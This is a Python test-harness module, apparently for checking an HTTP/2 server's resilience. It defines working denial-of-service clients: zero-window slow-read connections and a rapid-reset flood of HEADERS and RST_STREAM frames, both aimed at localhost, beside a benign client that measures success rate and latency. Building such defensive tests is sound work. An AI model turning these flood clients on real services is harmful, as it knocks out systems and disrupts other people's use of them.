"""Clients of HTTP/2 that ask for much and take nothing, and a well-behaved client beside them."""

import asyncio
import contextlib
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
INITIAL_WINDOW_SIZE = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    return bytes([len(value)]) + value.encode()


def literal(name, value):
    """A field that no table remembers."""
    return b"\x00" + text(name) + text(value)


def remembered(name, value):
    """A field that both tables remember, as number 62; `value` is shorter than 127 bytes."""
    return b"\x40" + text(name) + text(value)


def head(stream, path="/", more=b""):
    """A whole GET."""
    block = b"".join(literal(name, value) for name, value in (
        (":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "t")))
    return frame(HEADERS, 0x5, stream, block + more)


def greeting(window):
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))


class Attack:
    """Connections that come again and again, from a thread of their own. `again` seconds pass
    between two visits; the connections of a visit are closed when the next ones are open."""

    def __init__(self, port, connections, again=8.0, sources=("127.0.0.1",)):
        self.port, self.connections, self.again = port, connections, again
        self.sources = sources
        self.sent_bytes = 0
        self.open = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def visit(self, index):
        """The bytes that one connection sends."""
        raise NotImplementedError

    def between(self, sock):
        """What a connection does between two visits, about every 50 ms."""

    def _connect(self, index):
        sock = socket.socket()
        sock.bind((self.sources[index % len(self.sources)], 0))
        sock.settimeout(5)
        sock.connect(("127.0.0.1", self.port))
        data = self.visit(index)
        sock.sendall(data)
        self.sent_bytes += len(data)
        return sock

    def _run(self):
        while not self._stop.is_set():
            before, self.open = self.open, []
            for index in range(self.connections):
                with contextlib.suppress(OSError):
                    self.open.append(self._connect(index))
            for sock in before:
                sock.close()
            until = time.monotonic() + self.again
            while time.monotonic() < until and not self._stop.wait(0.05):
                for sock in self.open:
                    with contextlib.suppress(OSError):
                        self.between(sock)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join()
        for sock in self.open:
            sock.close()


class ClosedWindows(Attack):
    """`requests` small GETs on each connection, whose answers may have `window` bytes: all at once,
    or `portion` of them every 50 ms."""

    def __init__(self, port, connections, window=0, requests=100, path="/", portion=0, **options):
        super().__init__(port, connections, **options)
        heads = [head(2 * i + 1, path) for i in range(requests)]
        first = portion or requests
        self.data = greeting(window) + b"".join(heads[:first])
        self.later = [b"".join(heads[i:i + first]) for i in range(first, requests, first)]
        self.sent = {}

    def visit(self, index):
        return self.data

    def between(self, sock):
        at = self.sent.get(sock, 0)
        if at < len(self.later):
            self.sent[sock] = at + 1
            sock.sendall(self.later[at])
            self.sent_bytes += len(self.later[at])


class RapidResets(Attack):
    """Requests that are taken back 50 ms later, when the service works on them: `burst` on each
    connection at a time. A connection that was ended comes again at the next visit."""

    def __init__(self, port, connections, burst=20, path="/", **options):
        super().__init__(port, connections, **options)
        self.burst, self.path = burst, path
        self.next, self.resets = {}, 0

    def visit(self, index):
        return greeting(65535)

    def between(self, sock):
        first = self.next.get(sock, 1)
        after = first + 2 * self.burst
        before = range(max(1, first - 2 * self.burst), first, 2)
        sock.sendall(b"".join(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                              for stream in before) +
                     b"".join(head(stream, self.path) for stream in range(first, after, 2)))
        self.next[sock] = after
        self.resets += len(before)


class WellBehaved:
    """A client that asks `rate` times a second, each time on a new connection, whatever became of
    the requests before; each has `patience` seconds."""

    def __init__(self, port, rate=40, path="/", patience=2.0):
        self.port, self.rate, self.path, self.patience = port, rate, path, patience
        self.answers = []  # (when it was due, seconds, status or reason; 0: none)
        self._stop = False
        self._thread = threading.Thread(target=lambda: asyncio.run(self._run()), daemon=True)

    async def _ask(self, due):
        began, status = time.monotonic(), 0
        writer = None
        try:
            async with asyncio.timeout(self.patience):
                reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
                writer.write(f"GET {self.path} HTTP/1.1\r\nhost: t\r\n"
                             "connection: close\r\n\r\n".encode())
                line = await reader.readline()
                rest = await reader.read()
                status = int(line.split(b" ")[1]) if line else 0
                for field in rest.split(b"\r\n"):
                    if field.startswith(b"x-weir-reason: "):
                        status = field[15:].decode()
        except (OSError, TimeoutError, IndexError, ValueError):
            status = 0
        finally:
            if writer is not None:
                writer.close()
        self.answers.append((due, time.monotonic() - began, status))

    async def _run(self):
        tasks, due = set(), time.monotonic()
        while not self._stop:
            task = asyncio.create_task(self._ask(due))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
            due += 1 / self.rate
            await asyncio.sleep(max(0.0, due - time.monotonic()))
        await asyncio.gather(*tasks)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop = True
        self._thread.join()

    @property
    def share(self):
        return sum(status == 200 for _, _, status in self.answers) / max(1, len(self.answers))

    @property
    def p99(self):
        times = sorted(seconds for _, seconds, _ in self.answers)
        return times[int(len(times) * 0.99)] if times else 0.0

    def statuses(self):
        counts = {}
        for _, _, status in self.answers:
            counts[status] = counts.get(status, 0) + 1
        return counts
